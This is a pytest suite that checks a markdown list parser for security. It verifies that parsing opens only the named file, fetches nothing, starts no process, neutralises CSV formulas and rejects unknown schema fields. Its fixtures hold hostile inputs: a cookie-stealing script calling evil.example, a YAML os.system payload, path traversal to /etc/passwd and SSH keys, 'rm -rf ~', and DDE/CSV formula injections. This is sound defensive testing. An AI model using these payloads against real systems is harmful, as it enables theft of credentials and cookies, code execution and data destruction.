"""Safety: parsing reads only the named input, fetches and runs nothing, writes only where told;
CSV cells cannot become formulas; the JSON Schema lets a consumer reject unknown fields."""

from __future__ import annotations

import builtins
import csv
import io
import os
import socket
import subprocess
import urllib.request
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from awesome_parse import exporters, lint, parse, parse_file
from awesome_parse.cli import main
from awesome_parse.model import Document

HOSTILE = """---
title: !!python/object/apply:os.system ["touch pwned"]
include: ../../etc/passwd
---
# List ![logo](../../../etc/passwd) <img src="file:///etc/shadow">

[![badge](https://img.shields.io/badge/x.svg)](https://github.com/a/b)
<a href="../secret.md">up</a> <iframe src="https://evil.example/"></iframe>
<script>fetch("https://evil.example/?" + document.cookie)</script>

## Links

- [Up](../README.md) - relative
- [Root](/etc/passwd) [Home](~/.ssh/id_rsa) [File](file:///etc/hosts)
- ![img](images/diagram.png) [data](data:text/html;base64,PHNjcmlwdD4=)
- [Remote](https://example.org/paper.pdf) <https://auto.example.org/x> https://bare.example.org
- [JS](javascript:alert(1)) [Include](<!--#include virtual="/etc/passwd" -->)
- {{ config.__class__ }} ${HOME} $(touch pwned2) `rm -rf ~`

| Title | Code |
|---|---|
| [T](../../x.md) | ![c](./c.png) |

[ref]: ../../ref.md
```bibtex
@article{x, title={{\\input{/etc/passwd}}}, url={file:///etc/passwd}}
```
"""


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    folder = tmp_path / "lists"
    folder.mkdir()
    path = folder / "README.md"
    path.write_text(HOSTILE, encoding="utf-8")
    return path


class Forbidden(AssertionError):
    pass


@pytest.fixture
def sandbox(monkeypatch: pytest.MonkeyPatch, hostile: Path) -> list[str]:
    """Fail on any file opened but the input, any socket, any URL fetch and any process."""
    opened: list[str] = []
    real_open = builtins.open
    real_io_open = io.open
    allowed = {str(hostile)}

    def guarded_open(file: Any, mode: str = "r", *args: Any, **kwargs: Any) -> Any:
        if isinstance(file, int):  # a descriptor: its opening was checked by os.open
            return real_open(file, mode, *args, **kwargs)
        name = os.fspath(file)
        opened.append(name)
        if name in allowed or "site-packages" in name or "/lib/python" in name:
            return real_open(file, mode, *args, **kwargs)
        raise Forbidden(f"parse opened {name!r}")

    real_os_open = os.open

    def guarded_os_open(path: Any, flags: int, *args: Any, **kwargs: Any) -> int:
        # Inputs are opened with os.open (without blocking on a FIFO), then wrapped by fd.
        name = os.fspath(path)
        opened.append(name)
        if name in allowed or "site-packages" in name or "/lib/python" in name:
            return real_os_open(path, flags, *args, **kwargs)
        raise Forbidden(f"parse opened {name!r}")

    def no_network(*args: Any, **kwargs: Any) -> Any:
        raise Forbidden("parse opened a socket")

    def no_process(*args: Any, **kwargs: Any) -> Any:
        raise Forbidden("parse started a process")

    monkeypatch.setattr(builtins, "open", guarded_open)
    monkeypatch.setattr(os, "open", guarded_os_open)
    monkeypatch.setattr(
        io, "open", lambda *a, **k: guarded_open(*a, **k) if a else real_io_open(**k)
    )
    monkeypatch.setattr(socket, "socket", no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    monkeypatch.setattr(urllib.request, "urlopen", no_network)
    monkeypatch.setattr(subprocess, "Popen", no_process)
    monkeypatch.setattr(os, "system", no_process)
    monkeypatch.setattr(os, "popen", no_process)
    for name in ("execv", "execve", "execvp", "fork", "posix_spawn", "spawnv"):
        if hasattr(os, name):
            monkeypatch.setattr(os, name, no_process)
    return opened


def test_parse_reads_only_the_named_file_and_fetches_nothing(
    hostile: Path, sandbox: list[str]
) -> None:
    doc = parse_file(hostile)
    assert sandbox.count(str(hostile)) == 1
    assert all(name == str(hostile) or "python" in name for name in sandbox), sandbox
    dumped = doc.model_dump_json()
    # Every link is kept as written (not resolved, not followed).
    for url in (
        "../README.md",
        "/etc/passwd",
        "file:///etc/hosts",
        "https://example.org/paper.pdf",
        "https://auto.example.org/x",
        "https://bare.example.org",
        "./c.png",
    ):
        assert url in dumped, url
    assert doc.front_matter["title"] == '!!python/object/apply:os.system ["touch pwned"]'


def test_an_item_of_an_image_and_a_data_link_is_kept() -> None:
    doc = parse("- ![img](images/diagram.png) [data](data:text/html;base64,PHNjcmlwdD4=)\n")
    assert "images/diagram.png" in doc.model_dump_json()


def test_exporting_the_hostile_document_fetches_nothing(hostile: Path, sandbox: list[str]) -> None:
    doc = parse_file(hostile)
    for fmt in exporters.FORMATS:
        exporters.export(doc, fmt)


def test_lint_of_the_hostile_document_reads_only_it(hostile: Path, sandbox: list[str]) -> None:
    lint.lint_source(hostile.read_bytes(), path=str(hostile))
    assert not [n for n in sandbox if "../" in n or n.startswith(("/etc", "file:"))]


def test_nothing_is_written_but_the_named_output(
    hostile: Path, tmp_path: Path, monkeypatch
) -> None:
    work = tmp_path / "cwd"
    work.mkdir()
    monkeypatch.chdir(work)
    before = sorted(str(p) for p in tmp_path.rglob("*"))
    out = tmp_path / "out.json"
    assert main([str(hostile), "-o", str(out)]) == 0
    after = sorted(str(p) for p in tmp_path.rglob("*"))
    assert sorted(set(after) - set(before)) == [str(out)]
    assert not (work / "pwned").exists() and not (work / "pwned2").exists()


# --- CSV injection --------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "=cmd|' /C calc'!A0"]


def test_csv_cells_cannot_become_formulas() -> None:
    rows = "".join(
        f"| {cell} | [p](https://arxiv.org/abs/2101.0000{i}) | {cell} | {cell} |\n"
        for i, cell in enumerate(FORMULAS)
    )
    text = f"# L\n\n## =SECTION()\n\n| Title | Paper | Venue | Authors |\n|---|---|---|---|\n{rows}"
    text += "\n- [=1+1](https://x.org) - @here\n- [+cmd](https://y.org)\n"
    data = exporters.export(parse(text), "csv")
    assert isinstance(data, str)
    for row in list(csv.reader(io.StringIO(data)))[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_csv_raw_keeps_cells_unchanged_when_asked() -> None:
    data = exporters.export(parse("# L\n\n- [=1+1](https://x.org)\n"), "csv", raw=True)
    assert "=1+1" in data and "'=1+1" not in data


# --- the schema is closed -------------------------------------------------------------------


def _objects(schema: Any) -> list[dict[str, Any]]:
    found, stack = [], [schema]
    while stack:
        node = stack.pop()
        if isinstance(node, dict):
            if node.get("type") == "object" and "properties" in node:
                found.append(node)
            stack.extend(node.values())
        elif isinstance(node, list):
            stack.extend(node)
    return found


def test_json_schema_forbids_unknown_fields_everywhere() -> None:
    objects = _objects(Document.model_json_schema())
    assert len(objects) >= 6  # Document, Section, Entry, Link, Badge, Diagnostic
    for node in objects:
        assert node.get("additionalProperties") is False, node.get("title")


@pytest.mark.parametrize(
    "path",
    [
        [],
        ["sections", 0],
        ["sections", 0, "entries", 0],
        ["sections", 0, "entries", 0, "links", 0],
        ["sections", 0, "entries", 0, "children", 0],
        ["diagnostics", 0],
    ],
)
def test_unknown_keys_are_rejected_at_every_level(path: list[Any]) -> None:
    doc = parse("# L\n\n## S\n\n- [a](https://a.org) \x00\n  - [b](https://b.org)\n").model_dump()
    assert doc["diagnostics"], "the fixture needs a diagnostic"
    node = doc
    for key in path:
        node = node[key]
    node["__proto__"] = {"admin": True}
    with pytest.raises(ValidationError, match="__proto__"):
        Document.model_validate(doc)
